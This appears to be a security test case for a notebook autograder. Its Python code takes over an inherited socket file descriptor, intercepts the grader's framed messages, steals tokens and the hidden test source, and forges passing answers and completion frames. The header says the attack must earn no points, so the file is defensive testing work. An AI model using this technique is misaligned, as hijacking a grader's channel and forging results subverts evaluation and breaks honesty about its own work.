# attack: a thread of the session reads the channel, steals key and sealed test, and answers for the test child
# points: none
# must not: gain a point with forged frames and real tokens, or bring the test home
# ordinary: yes

# %% row_stats
import json, os, socket, stat, struct, threading
number = next(n for n in range(3, 256) if os.path.exists(f"/proc/self/fd/{n}") or os.path.islink(f"/proc/self/fd/{n}")
              if "socket" in os.readlink(f"/proc/self/fd/{n}"))
line, stolen = socket.socket(fileno=os.dup(number)), []

def send(message, blob=b""):
    text = json.dumps(message).encode()
    line.sendall(struct.pack(">II", len(text), len(blob)) + text + blob)

def read(size):
    data = b""
    while len(data) < size:
        data += line.recv(size - len(data))
    return data

def serve():
    while True:
        size, blob = struct.unpack(">II", read(8))
        message = json.loads(read(size))
        read(blob)
        stolen.append(message)
        token = message.get("token")
        if message.get("do") == "test":
            send({"ready": token})
            size, blob = struct.unpack(">II", read(8))
            test = json.loads(read(size))
            stolen.append(test)
            import re
            for label in re.findall(r"_course_expect\('(.*?)',", test["source"]):
                send({"answer": label, "token": token, "outline": True})
            send({"end": "completed", "token": token, "error": None, "used": []})
            send({"did": token, "how": "exited", "threads": 0})
        elif message.get("do") == "cell":
            text = json.dumps([{"msg_type": "stream", "content": {"name": "stdout", "text": "lo" + f"ot: {stolen}"}}]).encode()
            send({"did": token, "status": "ok"}, text)
        else:
            send({"did": token}, b"{}")

threading.Thread(target=serve, daemon=True).start()
